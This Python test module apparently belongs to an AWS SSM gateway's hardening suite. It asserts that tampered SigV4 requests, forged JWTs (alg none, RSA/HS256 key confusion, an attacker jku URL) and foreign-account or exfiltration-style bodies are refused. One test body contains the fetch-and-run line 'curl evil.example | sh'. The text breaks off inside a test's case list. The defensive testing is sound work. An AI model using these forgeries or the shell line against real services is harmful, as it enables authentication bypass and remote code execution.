"""Tampered requests against the gateway, run by gateway_hardening.py: a corpus of
variants of one valid signed SendCommand (every signed header changed, the body changed
by a byte, the scope's date/region/service swapped, the date moved, SignedHeaders
duplicated or reordered, unsigned headers that change the meaning (the route headers
`X-Ssm-Edge-Account` and `X-Ssm-Edge-Region` among them), case tricks, a cut
signature, another principal's key id, a signature for another host, replays …) and of
one valid bearer JWT (alg none, a wrong key, expired, wrong aud/iss, HS256 keyed with the
RSA public key, a kid naming another key …). Each row names the AWS error the gateway
must answer; none may reach the upstream (tests/local-ssm counts every request it gets).

Then what a correctly signed caller may still not do (issue 11: the gateway forwards
exactly what its policy decided on, and its policy sees everything it forwards): a
corpus of signed requests refused for their body — a document ARN of another account
(admins included), a member named twice (however spelled), each output destination,
notification or role for on-call — and, through the gateway to the local SSM (which
shows the raw bodies it received): the same signature under other spellings of its
`Authorization` header is one request; an own-account ARN decides like the name; every
other forwarded field reaches the upstream and the audit line; the forwarded body is the
core's compact serialization, not the caller's bytes; an upstream refusal reaches boto3
without the upstream's ARN or account id (the audit line keeps them). Reads of command
output (CloudWatch Logs) that could name another stream than the one decided on are refused
before the command is looked up.
"""

import base64
import datetime
import hashlib
import hmac
import json
import sys
import time
import unittest
import uuid
from typing import NamedTuple

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from botocore.exceptions import ClientError

from botocore_decode import decode_error
from gateway_harness import (AUDIENCE, INSTANCE, ISSUER, JSON_CT, STAGING, UPSTREAM_ACCOUNT_ID, LocalStack,
                             SigningKey, b64url, http_request, send_command_body)

INCOMPLETE = "IncompleteSignatureException"
INVALID = "InvalidSignatureException"
UNRECOGNIZED = "UnrecognizedClientException"
EXPIRED = "ExpiredTokenException"
SERIALIZATION = "SerializationException"
DENIED = "AccessDeniedException"
VALIDATION = "ValidationException"
# An account that is not the upstream's: anyone can share a document from theirs.
FOREIGN_ACCOUNT = "999999999999"


class Req(NamedTuple):
    method: str
    path: str
    headers: list  # (name, value) pairs, in order; names may repeat
    body: bytes


def restart_body(comment=None):
    return send_command_body("Ops-RestartService", comment=comment or f"CHG-100 tamper {uuid.uuid4().hex[:10]}",
                             targets=STAGING, parameters={"service": ["nginx"]})


# ------------------------------------------------------------------ request surgery


def header(req, name):
    return next(v for n, v in req.headers if n.lower() == name.lower())


def set_header(req, name, value):
    """Replaces the value of `name` (every occurrence), keeping its place."""
    return req._replace(headers=[(n, value if n.lower() == name.lower() else v) for n, v in req.headers])


def drop_header(req, name):
    return req._replace(headers=[(n, v) for n, v in req.headers if n.lower() != name.lower()])


def add_header(req, name, value):
    return req._replace(headers=[*req.headers, (name, value)])


def edit_auth(req, edit):
    return set_header(req, "Authorization", edit(header(req, "Authorization")))


def edit_signed_headers(req, edit):
    """Applies `edit` to the SignedHeaders list (a list of names)."""
    def apply(auth):
        before, rest = auth.split("SignedHeaders=", 1)
        names, after = rest.split(",", 1)
        return f"{before}SignedHeaders={';'.join(edit(names.split(';')))},{after}"
    return edit_auth(req, apply)


def edit_scope(req, index, value):
    """Replaces part `index` of Credential=AKID/date/region/service/terminator."""
    def apply(auth):
        before, rest = auth.split("Credential=", 1)
        credential, after = rest.split(",", 1)
        parts = credential.split("/")
        parts[index] = value
        return f"{before}Credential={'/'.join(parts)},{after}"
    return edit_auth(req, apply)


def edit_signature(req, edit):
    return edit_auth(req, lambda a: a.rsplit("Signature=", 1)[0] + "Signature=" + edit(a.rsplit("Signature=", 1)[1]))


def flip_byte(body: bytes, index: int) -> bytes:
    return body[:index] + bytes([body[index] ^ 0x01]) + body[index + 1:]


def replace_once(body: bytes, old: bytes, new: bytes) -> bytes:
    assert old in body, (old, body)
    return body.replace(old, new, 1)


# ------------------------------------------------------------------ the SigV4 corpus


class Corpus:
    """Builds fresh valid requests (each with its own signature) for the table's rows."""

    def __init__(self, stack):
        self.stack = stack

    def signed(self, who="alice", body=None, *, at=None, extra=None, service="ssm", region=None, akid=None,
               secret=None, omit=(), host=None, operation="SendCommand"):
        """A call (SendCommand unless `operation` says) signed by botocore; `omit`: headers
        left out when signing, then added (so they are there, unsigned); `host`: signed for
        that Host (instead of the gateway's address) and sent with it."""
        body = body if body is not None else restart_body()
        unsigned = {"Content-Type": JSON_CT, "X-Amz-Target": f"AmazonSSM.{operation}"}
        headers = self.stack.sign(operation, body, who, akid=akid, secret=secret, at=at, service=service,
                                  region=region, url=f"http://{host}" if host else None,
                                  extra={**(extra or {}), **{name: None for name in omit}})
        pairs = [*headers.items(), *((name, unsigned[name]) for name in omit)]
        return Req("POST", "/", pairs + [("Host", host)] if host else pairs, body)

    def now(self, delta_s=0):
        return datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None) + datetime.timedelta(seconds=delta_s)


def sigv4_cases(c: Corpus, keys):
    """(name, request, expected code, message fragment)."""
    bob_akid, root_akid = keys["bob"][0], keys["root"][0]
    port = c.stack.gw.port  # the gateway's GATEWAY_HOSTNAMES is 127.0.0.1:<port>
    alice_akid, alice_secret = keys["alice"][0], keys["alice"][1]
    s = c.signed
    yesterday = (c.now(-86400)).strftime("%Y%m%d")
    other_body = send_command_body("AWS-RunShellScript", comment="INC-666 swapped", instance_ids=["i-0123456789abcdef0"],
                                   parameters={"commands": ["curl evil.example | sh"]})
    wrong_sha = hashlib.sha256(b"something else").hexdigest()
    return [
        # Every signed header changed after signing.
        ("signed content-type changed", set_header(s(), "Content-Type", "application/json"), INVALID, "does not match"),
        ("signed x-amz-target changed to ListCommands",
         set_header(s(), "X-Amz-Target", "AmazonSSM.ListCommands"), INVALID, "does not match"),
        ("signed x-amz-target changed to CancelCommand",
         set_header(s(), "X-Amz-Target", "AmazonSSM.CancelCommand"), INVALID, None),
        ("signed x-amz-target lower-cased", set_header(s(), "X-Amz-Target", "amazonssm.sendcommand"), INVALID, None),
        ("signed content-type upper-cased", set_header(s(), "Content-Type", JSON_CT.upper()), INVALID, None),
        ("signed x-amz-date moved one second",
         (lambda r: set_header(r, "X-Amz-Date", (datetime.datetime.strptime(header(r, "X-Amz-Date"), "%Y%m%dT%H%M%SZ")
                                                 + datetime.timedelta(seconds=1)).strftime("%Y%m%dT%H%M%SZ")))(s()),
         INVALID, None),
        ("signed amz-sdk-invocation-id changed", set_header(s(), "amz-sdk-invocation-id", str(uuid.uuid4())), INVALID,
         None),
        ("signed host changed", add_header(s(), "Host", "ssm.us-east-1.amazonaws.com"), INVALID, None),
        # A signed header left out.
        ("signed content-type removed", drop_header(s(), "Content-Type"), INCOMPLETE, "content-type"),
        ("signed x-amz-target removed", drop_header(s(), "X-Amz-Target"), INCOMPLETE, "x-amz-target"),
        ("signed amz-sdk-invocation-id removed", drop_header(s(), "amz-sdk-invocation-id"), INCOMPLETE, None),
        ("x-amz-date removed", drop_header(s(), "X-Amz-Date"), INCOMPLETE, None),
        # The body changed by one byte (or a little more).
        ("body: one byte of the comment flipped",
         (lambda r: r._replace(body=replace_once(r.body, b"CHG-100", b"CHG-101")))(s()), INVALID, None),
        ("body: nginx -> nginy", (lambda r: r._replace(body=replace_once(r.body, b"nginx", b"nginy")))(s()),
         INVALID, None),
        ("body: staging -> stagine", (lambda r: r._replace(body=replace_once(r.body, b"staging", b"stagine")))(s()),
         INVALID, None),
        ("body: first byte flipped", (lambda r: r._replace(body=flip_byte(r.body, 0)))(s()), INVALID, None),
        ("body: last byte flipped", (lambda r: r._replace(body=flip_byte(r.body, len(r.body) - 1)))(s()), INVALID,
         None),
        ("body: a trailing newline", (lambda r: r._replace(body=r.body + b"\n"))(s()), INVALID, None),
        ("body: a leading space", (lambda r: r._replace(body=b" " + r.body))(s()), INVALID, None),
        ("body: one byte cut", (lambda r: r._replace(body=r.body[:-1]))(s()), INVALID, None),
        ("body: empty", (lambda r: r._replace(body=b""))(s()), INVALID, None),
        ("body: another command under the same signature", s()._replace(body=other_body), INVALID, None),
        # The credential scope.
        ("scope date is yesterday", edit_scope(s(), 1, yesterday), INVALID, None),
        ("scope region edited to us-west-2", edit_scope(s(), 2, "us-west-2"), INVALID, None),
        ("scope region upper-cased", edit_scope(s(), 2, c.stack.region.upper()), INVALID, None),
        ("signed for us-west-2", s(region="us-west-2"), INVALID, None),
        ("signed for service ec2", s(service="ec2"), INVALID, None),
        ("signed for service execute-api", s(service="execute-api"), INVALID, None),
        ("scope service edited to SSM", edit_scope(s(), 3, "SSM"), INVALID, None),
        ("scope terminator aws4_requesx", edit_scope(s(), 4, "aws4_requesx"), INVALID, None),
        # The date.
        ("signed 6 minutes ago", s(at=c.now(-360)), INVALID, "Signature expired"),
        ("signed 6 minutes ahead", s(at=c.now(360)), INVALID, "Signature not yet current"),
        ("signed a day ago", s(at=c.now(-86400)), INVALID, "Signature expired"),
        ("x-amz-date not an amz-date", set_header(s(), "X-Amz-Date", "2026-11-26T07:38:13Z"), INCOMPLETE, None),
        ("x-amz-date twice", (lambda r: add_header(r, "X-Amz-Date", header(r, "X-Amz-Date")))(s()), INCOMPLETE,
         None),
        # SignedHeaders.
        ("SignedHeaders with a name twice", edit_signed_headers(s(), lambda n: sorted(n + [n[0]])), INCOMPLETE,
         "SignedHeaders"),
        ("SignedHeaders reordered", edit_signed_headers(s(), lambda n: list(reversed(n))), INCOMPLETE,
         "SignedHeaders"),
        ("SignedHeaders with an upper-case name",
         edit_signed_headers(s(), lambda n: [x.title() if x == "content-type" else x for x in n]), INCOMPLETE, None),
        ("SignedHeaders without host", edit_signed_headers(s(), lambda n: [x for x in n if x != "host"]), INCOMPLETE,
         None),
        ("SignedHeaders without x-amz-date",
         edit_signed_headers(s(), lambda n: [x for x in n if x != "x-amz-date"]), INCOMPLETE, None),
        ("SignedHeaders naming an absent header",
         edit_signed_headers(s(), lambda n: sorted(n + ["x-evil"])), INCOMPLETE, None),
        ("x-amz-target present but not signed", s(omit=("X-Amz-Target",)), INCOMPLETE, "x-amz-target"),
        ("content-type present but not signed", s(omit=("Content-Type",)), INCOMPLETE, "content-type"),
        # Unsigned headers that change the meaning. workerd joins a repeated header into
        # one value ("A, B"), so the core's duplicate-header check does not see two: the
        # signature over the joined value does not match.
        ("a second X-Amz-Target", add_header(s(), "X-Amz-Target", "AmazonSSM.ListCommands"), INVALID, None),
        ("a second X-Amz-Target, lower-case name",
         add_header(s(), "x-amz-target", "AmazonSSM.CancelCommand"), INVALID, None),
        ("a second Content-Type", add_header(s(), "Content-Type", "text/plain"), INVALID, None),
        ("an unsigned X-Amz-Security-Token", add_header(s(), "X-Amz-Security-Token", "FwoGZXIvYXdzE"), INCOMPLETE,
         "x-amz-security-token"),
        ("an unsigned X-Amz-Content-Sha256", add_header(s(), "X-Amz-Content-Sha256", wrong_sha), INCOMPLETE, None),
        ("a signed X-Amz-Content-Sha256 of another body", s(extra={"X-Amz-Content-Sha256": wrong_sha}), INVALID,
         None),
        ("a second Authorization (a bearer token)", add_header(s(), "Authorization", "Bearer abc.def.ghi"), INCOMPLETE,
         None),
        # The route headers (issue 14): what picks the account or region must be signed, and
        # a signed region header may not contradict the scope's region.
        ("an unsigned X-Ssm-Edge-Account", add_header(s(), "X-Ssm-Edge-Account", "default"), INCOMPLETE,
         "x-ssm-edge-account"),
        ("an unsigned x-ssm-edge-account, lower-case name", add_header(s(), "x-ssm-edge-account", "prod"), INCOMPLETE,
         "x-ssm-edge-account"),
        ("an unsigned X-Ssm-Edge-Region", add_header(s(), "X-Ssm-Edge-Region", c.stack.region), INCOMPLETE,
         "x-ssm-edge-region"),
        ("a second X-Ssm-Edge-Account after a signed one",
         add_header(s(extra={"X-Ssm-Edge-Account": "default"}), "X-Ssm-Edge-Account", "prod"), INVALID, None),

        # The signature and the Authorization header.
        ("signature cut to 63 digits", edit_signature(s(), lambda sig: sig[:-1]), INVALID, None),
        ("signature with one more digit", edit_signature(s(), lambda sig: sig + "0"), INVALID, None),
        ("signature in upper case", edit_signature(s(), str.upper), INVALID, None),
        ("signature with one digit changed",
         edit_signature(s(), lambda sig: sig[:10] + ("0" if sig[10] != "0" else "1") + sig[11:]), INVALID, None),
        ("signature all zeros", edit_signature(s(), lambda sig: "0" * 64), INVALID, None),
        ("signature empty", edit_signature(s(), lambda sig: ""), INVALID, None),
        ("algorithm AWS4-HMAC-SHA512", edit_auth(s(), lambda a: a.replace("AWS4-HMAC-SHA256", "AWS4-HMAC-SHA512")),
         INCOMPLETE, None),
        ("algorithm SigV4a (AWS4-ECDSA-P256-SHA256)",
         edit_auth(s(), lambda a: a.replace("AWS4-HMAC-SHA256", "AWS4-ECDSA-P256-SHA256")), INCOMPLETE, None),
        ("algorithm in lower case", edit_auth(s(), lambda a: a.replace("AWS4-HMAC-SHA256", "aws4-hmac-sha256")),
         UNRECOGNIZED, None),
        ("Credential given twice",
         edit_auth(s(), lambda a: a.replace(", SignedHeaders=", ", Credential=" + a.split("Credential=")[1].split(",")[0]
                                            + ", SignedHeaders=")), INCOMPLETE, None),
        ("Authorization without SignedHeaders",
         edit_auth(s(), lambda a: a.split(" SignedHeaders=")[0] + " " + "Signature=" + a.rsplit("Signature=")[1]),
         INCOMPLETE, None),
        # Whose key.
        ("bob's key id on alice's signature", edit_scope(s(), 0, bob_akid), INVALID, None),
        ("root's key id on alice's signature", edit_scope(s(), 0, root_akid), INVALID, None),
        ("an unknown key id", edit_scope(s(), 0, "GWKEYNOBODY000000000"), UNRECOGNIZED, "security token"),
        ("the key id in lower case", edit_scope(s(), 0, alice_akid.lower()), UNRECOGNIZED, None),
        ("alice's key id, a wrong secret", s(akid=alice_akid, secret=alice_secret[:-1] + "x", who=None), INVALID,
         None),
        # Method and path (covered by the signature).
        ("method GET", s()._replace(method="GET"), INVALID, None),
        ("method PUT", s()._replace(method="PUT"), INVALID, None),
        ("a query string added", s()._replace(path="/?Action=SendCommand"), INVALID, None),
        ("another path", s()._replace(path="/admin"), INVALID, None),
        # An old request, captured and sent again.
        ("a request captured 10 minutes ago", s(at=c.now(-600)), INVALID, "Signature expired"),
        # The host it was signed for (and sent with): another gateway sharing the keys, or
        # a name of this one it was not given. The signature itself is valid.
        ("signed for another gateway's host", s(host="other-gateway.example"), INVALID, "not this gateway"),
        ("signed for another gateway's host and port", s(host="other-gateway.example:8787"), INVALID,
         "not this gateway"),
        ("signed for localhost:<port>, a name this gateway was not given", s(host=f"localhost:{port}"), INVALID,
         "not this gateway"),
        ("signed for the gateway's address, another port", s(host=f"127.0.0.1:{port + 1}"), INVALID,
         "not this gateway"),
        ("signed for the gateway's address without its port", s(host="127.0.0.1"), INVALID, "not this gateway"),
    ]


# ------------------------------------------------------------------ the JWT corpus


def raw_token(header, claims, signature=b""):
    return f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(claims).encode())}.{b64url(signature)}"


def claims(sub="carol", **overrides):
    now = int(time.time())
    base = {"iss": ISSUER, "aud": AUDIENCE, "sub": sub, "groups": ["on-call"], "iat": now, "nbf": now - 5,
            "exp": now + 300}
    base.update(overrides)
    return {k: v for k, v in base.items() if v is not None}


def hs256(key: bytes, header, payload):
    signing_input = f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(payload).encode())}"
    return f"{signing_input}.{b64url(hmac.new(key, signing_input.encode(), hashlib.sha256).digest())}"


def resign_payload(token, **changes):
    """The token with its claims changed and its old signature kept."""
    head, payload, sig = token.split(".")
    decoded = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    decoded.update(changes)
    return f"{head}.{b64url(json.dumps(decoded).encode())}.{sig}"


def jwt_cases(stack):
    """(name, headers for the request, expected code)."""
    rsa_key, ec_key = stack.rsa_key, stack.ec_key
    attacker = SigningKey("RS256", rsa_key.kid)  # claims the published kid
    attacker_ec = SigningKey("ES256", "attacker-ec")
    rsa_pem = rsa_key.key.public_key().public_bytes(serialization.Encoding.PEM,
                                                    serialization.PublicFormat.SubjectPublicKeyInfo)
    good = rsa_key.token("carol", ["on-call"])
    other = ec_key.token("dave", ["admins"])
    ec_good = ec_key.token("carol", ["on-call"])
    raw_sig = base64.urlsafe_b64decode(ec_good.split(".")[2] + "==")
    der = encode_dss_signature(int.from_bytes(raw_sig[:32], "big"), int.from_bytes(raw_sig[32:], "big"))
    bearer = lambda t: [("Authorization", f"Bearer {t}")]  # noqa: E731
    return [
        ("alg none, no signature", bearer(raw_token({"alg": "none", "typ": "JWT"}, claims())), UNRECOGNIZED),
        ("alg none with the kid of a published key",
         bearer(raw_token({"alg": "none", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("alg None, capitalised", bearer(raw_token({"alg": "None", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("HS256 keyed with the RSA public key (PEM): the confusion attack",
         bearer(hs256(rsa_pem, {"alg": "HS256", "typ": "JWT", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("HS256 keyed with the RSA modulus",
         bearer(hs256(rsa_key.jwk()["n"].encode(), {"alg": "HS256", "kid": rsa_key.kid}, claims())), UNRECOGNIZED),
        ("HS256 without a kid", bearer(hs256(rsa_pem, {"alg": "HS256"}, claims())), UNRECOGNIZED),
        ("signed by another key under the published kid", bearer(attacker.token("carol", ["on-call"])), UNRECOGNIZED),
        ("signed by another key, no kid",
         bearer(attacker.token("carol", ["on-call"], header={"kid": None})), UNRECOGNIZED),
        ("kid of the EC key, RS256 signed by the RSA key",
         bearer(rsa_key.token("carol", ["on-call"], kid=ec_key.kid)), UNRECOGNIZED),
        ("kid of the RSA key, ES256 signed by the EC key",
         bearer(ec_key.token("carol", ["on-call"], kid=rsa_key.kid)), UNRECOGNIZED),
        ("an unknown kid", bearer(attacker_ec.token("carol", ["on-call"])), UNRECOGNIZED),
        ("a path as kid", bearer(attacker_ec.token("carol", ["on-call"], kid="../../../dev/null")), UNRECOGNIZED),
        ("jku pointing to the attacker's key set",
         bearer(attacker_ec.token("carol", ["on-call"], header={"jku": "https://evil.example/jwks.json"})),
         UNRECOGNIZED),
        ("the attacker's key embedded (jwk header) under the published kid",
         bearer(attacker.token("carol", ["on-call"], header={"jwk": attacker.jwk()})), UNRECOGNIZED),
        ("expired", bearer(rsa_key.token("carol", ["on-call"], ttl=-600)), EXPIRED),
        ("expired a year ago", bearer(rsa_key.token("carol", ["on-call"], ttl=-365 * 86400)), EXPIRED),
        ("not valid for an hour", bearer(rsa_key.token("carol", ["on-call"], nbf=int(time.time()) + 3600)),
         UNRECOGNIZED),
        ("wrong audience", bearer(rsa_key.token("carol", ["on-call"], aud="someone-else")), UNRECOGNIZED),
        ("audience list without ours", bearer(rsa_key.token("carol", ["on-call"], aud=["a", "b"])), UNRECOGNIZED),
        ("wrong issuer", bearer(rsa_key.token("carol", ["on-call"], iss="https://evil.example")), UNRECOGNIZED),
        ("issuer with a trailing slash", bearer(rsa_key.token("carol", ["on-call"], iss=ISSUER + "/")), UNRECOGNIZED),
        ("no exp", bearer(rsa_key.token("carol", ["on-call"], exp=None)), UNRECOGNIZED),
        ("exp as a string", bearer(rsa_key.token("carol", ["on-call"], exp="99999999999")), UNRECOGNIZED),
        ("no iss", bearer(rsa_key.token("carol", ["on-call"], iss=None)), UNRECOGNIZED),
        ("no aud", bearer(rsa_key.token("carol", ["on-call"], aud=None)), UNRECOGNIZED),
        ("no sub", bearer(rsa_key.token(None, ["on-call"])), UNRECOGNIZED),
        ("groups as a number", bearer(rsa_key.token("carol", 7)), UNRECOGNIZED),
        ("groups raised to admins after signing", bearer(resign_payload(good, groups=["admins"])), UNRECOGNIZED),
        ("sub changed after signing", bearer(resign_payload(good, sub="root")), UNRECOGNIZED),
        ("exp extended after signing", bearer(resign_payload(good, exp=4102444800)), UNRECOGNIZED),
        ("signature stripped", bearer(good.rsplit(".", 1)[0] + "."), UNRECOGNIZED),
        ("signature of another token", bearer(good.rsplit(".", 1)[0] + "." + other.rsplit(".", 1)[1]), UNRECOGNIZED),
        ("ES256 signature DER-encoded", bearer(ec_good.rsplit(".", 1)[0] + "." + b64url(der)), UNRECOGNIZED),
        ("token cut short", bearer(good[:-10]), UNRECOGNIZED),
        ("two parts only", bearer(".".join(good.split(".")[:2])), UNRECOGNIZED),
        ("alg PS256", bearer(rsa_key.token("carol", ["on-call"], alg="PS256")), UNRECOGNIZED),
        ("alg RS512", bearer(rsa_key.token("carol", ["on-call"], alg="RS512")), UNRECOGNIZED),
        ("an unknown critical header parameter",
         bearer(rsa_key.token("carol", ["on-call"], header={"crit": ["x-ssm-edge-unknown"],
                                                            "x-ssm-edge-unknown": True})), UNRECOGNIZED),
        ("two tokens in one header", bearer(f"{good} {other}"), UNRECOGNIZED),
        ("a bearer token and a SigV4 Authorization",
         [("Authorization", f"Bearer {good}"),
          ("Authorization", "AWS4-HMAC-SHA256 Credential=x/20260101/us-east-1/ssm/aws4_request, "
                            "SignedHeaders=host;x-amz-date, Signature=" + "0" * 64)], UNRECOGNIZED),
        ("Basic instead of Bearer", [("Authorization", "Basic " + base64.b64encode(b"carol:pw").decode())],
         UNRECOGNIZED),
        ("a bad Cf-Access-Jwt-Assertion", [("Cf-Access-Jwt-Assertion", attacker.token("carol", ["on-call"]))],
         UNRECOGNIZED),
    ]


# ------------------------------------------------------------------ signed, then refused for the body


def document_arn(account, region, name="Ops-RestartService", partition="aws"):
    return f"arn:{partition}:ssm:{region}:{account}:document/{name}"


def restart_with(comment=None, **members):
    """The on-call restart (allowed for alice) with `members` added or replaced."""
    body = json.loads(restart_body(comment))
    body.update(members)
    return json.dumps(body).encode()


def shell_with(comment=None, **members):
    """A shell script on one instance (allowed for root only) with `members` added."""
    body = json.loads(send_command_body("AWS-RunShellScript", comment=comment or f"INC-200 {uuid.uuid4().hex[:10]}",
                                        instance_ids=[INSTANCE], parameters={"commands": ["uptime"]}))
    body.update(members)
    return json.dumps(body).encode()


def duplicate_bodies():
    """(what, body, the member named twice): each decided on one value while the
    service's parser may keep the other."""
    tag = uuid.uuid4().hex[:10]
    staging = '"Targets":[{"Key":"tag:env","Values":["staging"]}]'
    return [
        ("DocumentName twice at the top",
         '{"DocumentName":"AWS-RunShellScript","Parameters":{"commands":["id"]},' + staging
         + f',"Comment":"CHG-300 {tag}","DocumentName":"Ops-RestartService"}}', "DocumentName"),
        ("Targets[0].Key twice",
         '{"DocumentName":"Ops-RestartService","Targets":[{"Key":"tag:env","Values":["prod"],'
         '"Key":"tag:env","Values":["staging"]}],"Parameters":{"service":["nginx"]},'
         f'"Comment":"CHG-300 {tag}"}}', "Key"),
        ("a Parameters key twice",
         '{"DocumentName":"Ops-RestartService",' + staging + ',"Parameters":{"service":["sshd"],'
         f'"service":["nginx"]}},"Comment":"CHG-300 {tag}"}}', "service"),
        ("DocumentName twice, once spelled Document\\u004eame",
         '{"DocumentName":"AWS-RunShellScript","Document\\u004eame":"Ops-RestartService",' + staging
         + f',"Parameters":{{"service":["nginx"]}},"Comment":"CHG-300 {tag}"}}', "DocumentName"),
        ("Comment twice (an allowed request either way)",
         '{"DocumentName":"Ops-RestartService",' + staging + ',"Parameters":{"service":["nginx"]},'
         f'"Comment":"CHG-300 {tag}","Comment":"INC-300 {tag}"}}', "Comment"),
    ]


def destinations(region, tag):
    """Where a command's output, notifications and role go: (member, value). On-call may
    set none of them; admins may."""
    return [
        ("OutputS3BucketName", f"attacker-bucket-{tag}"),
        ("OutputS3KeyPrefix", f"loot/{tag}/"),
        ("OutputS3Region", "ap-southeast-2"),
        ("CloudWatchOutputConfig", {"CloudWatchOutputEnabled": True, "CloudWatchLogGroupName": f"attacker-{tag}"}),
        ("NotificationConfig", {"NotificationArn": f"arn:aws:sns:{region}:{FOREIGN_ACCOUNT}:t-{tag}",
                                "NotificationEvents": ["All"], "NotificationType": "Command"}),
        ("ServiceRoleArn", f"arn:aws:iam::{UPSTREAM_ACCOUNT_ID}:role/admin-{tag}"),
    ]


def body_cases(c: Corpus):
    """(name, who, request, expected code, message fragments, audit decision): signed
    correctly by a known key, refused for what the body asks."""
    region = c.stack.region
    foreign = document_arn(FOREIGN_ACCOUNT, region)
    rows = [
        # A document shared from another account, named like an allowed one.
        ("alice: Ops-RestartService of another account", "alice",
         c.signed("alice", restart_with(DocumentName=foreign)), DENIED, ["not authorized"], "denied"),
        ("root: Ops-RestartService of another account", "root",
         c.signed("root", restart_with(DocumentName=foreign)), DENIED, ["not authorized"], "denied"),
        ("root: a shell document of another account", "root",
         c.signed("root", shell_with(DocumentName=document_arn(FOREIGN_ACCOUNT, region, "AWS-RunShellScript"))),
         DENIED, ["not authorized"], "denied"),
        ("alice: the upstream account's document, another region", "alice",
         c.signed("alice", restart_with(DocumentName=document_arn(UPSTREAM_ACCOUNT_ID, "eu-west-1"))),
         DENIED, ["not authorized"], "denied"),
        ("alice: the upstream account's document, another partition", "alice",
         c.signed("alice", restart_with(DocumentName=document_arn(UPSTREAM_ACCOUNT_ID, region,
                                                                  partition="aws-cn"))),
         DENIED, ["not authorized"], "denied"),
    ]
    for who in ("alice", "root"):
        for what, body, member in duplicate_bodies():
            rows.append((f"{who}: {what}", who, c.signed(who, body.encode()), SERIALIZATION,
                         [member, "more than once"], "invalid"))
    for member, value in destinations(region, uuid.uuid4().hex[:10]):
        rows.append((f"alice: {member}", "alice", c.signed("alice", restart_with(**{member: value})), DENIED,
                     ["not authorized"], "denied"))
    # Reads name documents and resources too.
    get = "GetDocument"
    rows += [
        ("root: GetDocument of another account's document", "root",
         c.signed("root", json.dumps({"Name": foreign}).encode(), operation=get), DENIED, ["not authorized"],
         "denied"),
        ("alice: GetDocument naming Name twice", "alice",
         c.signed("alice", ('{"Name":"Ops-RestartService","Name":"' + foreign + '"}').encode(), operation=get),
         SERIALIZATION, ["Name", "more than once"], "invalid"),
    ]
    for kind, rid in (("Parameter", "/prod/db/password"), ("Document", "Ops-RestartService"),
                      ("OpsItem", "oi-0123456789ab")):
        rows.append((f"root: the tags of a {kind}", "root",
                     c.signed("root", json.dumps({"ResourceType": kind, "ResourceId": rid}).encode(),
                              operation="ListTagsForResource"),
                     DENIED, ["managed nodes only"], "denied"))
    return rows


def leaves(value):
    """Every scalar in a JSON value (strings, numbers; booleans and null left out)."""
    if isinstance(value, dict):
        for v in value.values():
            yield from leaves(v)
    elif isinstance(value, list):
        for v in value:
            yield from leaves(v)
    elif value is not None and not isinstance(value, bool):
        yield value


def respellings(authorization):
    """The same Authorization value with its three components in other orders and with
    other spacing: each still names the same key, signed headers and signature."""
    algorithm, rest = authorization.split(" ", 1)
    p = [part.strip() for part in rest.split(",")]
    return {
        "signature first": f"{algorithm} {p[2]}, {p[0]}, {p[1]}",
        "no spaces, rotated": f"{algorithm} {p[1]},{p[2]},{p[0]}",
        "extra spaces": f"{algorithm}   {p[0]} ,  {p[1]},{p[2]}",
    }


class TamperedRequests(unittest.TestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        cls.stack = LocalStack.get()
        cls.corpus = Corpus(cls.stack)

    def send(self, req):
        for name, value in req.headers:  # every credential sent is a secret: never logged
            if name.lower() in ("authorization", "cf-access-jwt-assertion"):
                self.stack.sentinels[f"credential #{len(self.stack.sentinels)}"] = value.split(" ", 1)[-1]
        return http_request(req.method, self.stack.gw.url + req.path, req.headers, req.body)

    def assert_refused(self, reply, code, message=None, replay=False):
        self.assertEqual((reply.status, reply.code), (400, code), reply.body[:300])
        self.assertTrue(reply.request_id)
        decoded = decode_error("SendCommand", reply.status, list(reply.headers.items()), reply.body)
        self.assertEqual(decoded["code"], code, "botocore decodes the same error")
        if message:
            self.assertIn(message, reply.message)
        line = self.stack.gw.audit_for(reply.request_id)
        self.assertEqual(line["decision"], "unauthenticated", line)
        if not replay:  # a replay's signature is valid: its principal is known, and logged
            self.assertNotIn("principal", line)

    def test_the_untampered_request_runs_and_its_replays_are_refused(self):
        """The corpus's base request is valid (so each row refuses for its one change),
        and the very same bytes sent again — alone, with an Idempotency-Key, with an
        extra header — are replays."""
        req = self.corpus.signed()
        comment = json.loads(req.body)["Comment"]
        before = self.stack.ssm.stats()
        first = self.send(req)
        self.assertEqual(first.status, 200, first.body[:300])
        self.assertEqual(self.stack.executions(comment), 1)
        for replay in (req, add_header(req, "Idempotency-Key", f"k-{uuid.uuid4()}"),
                       add_header(req, "X-Forwarded-For", "10.0.0.1"), add_header(req, "Origin", "http://x.example")):
            with self.subTest(headers=[n for n, _ in replay.headers][-1]):
                reply = self.send(replay)
                if ("Origin", "http://x.example") in replay.headers:
                    # No CORS origins are configured here: refused before identity.
                    self.assertEqual((reply.status, reply.code), (400, "AccessDeniedException"))
                    continue
                self.assert_refused(reply, INVALID, "already used", replay=True)
        self.assertEqual(self.stack.requests_since(before, "SendCommand"), 1)
        self.assertEqual(self.stack.executions(comment), 1)

    def test_tampered_sigv4_requests_are_refused(self):
        cases = sigv4_cases(self.corpus, self.stack.keys)
        self.assertGreaterEqual(len(cases), 50)
        self.assertEqual(len({name for name, *_ in cases}), len(cases), "row names are unique")
        before = self.stack.ssm.stats()
        for name, req, code, message in cases:
            with self.subTest(name):
                self.assert_refused(self.send(req), code, message)
        self.assertEqual(self.stack.ssm.stats()["requests"], before["requests"], "nothing reached the upstream")
        print(f"\n    ({len(cases)} tampered SigV4 requests refused, none reached the upstream)", file=sys.stderr)

    def test_signed_route_headers_that_name_nothing_served_are_refused(self):
        """Validly signed, so the caller is known, but pointing where the gateway does not
        forward: refused before the policy is asked, nothing reaches the upstream."""
        c = self.corpus
        cases = [
            ("a signed X-Ssm-Edge-Region contradicting the scope", c.signed(extra={"X-Ssm-Edge-Region": "eu-west-1"}),
             INVALID, "differs from the region the request is signed for"),
            ("a signed X-Ssm-Edge-Account naming no account", c.signed(extra={"X-Ssm-Edge-Account": "prod"}),
             VALIDATION, 'X-Ssm-Edge-Account: "prod" is not an account this gateway serves (it serves default)'),
        ]
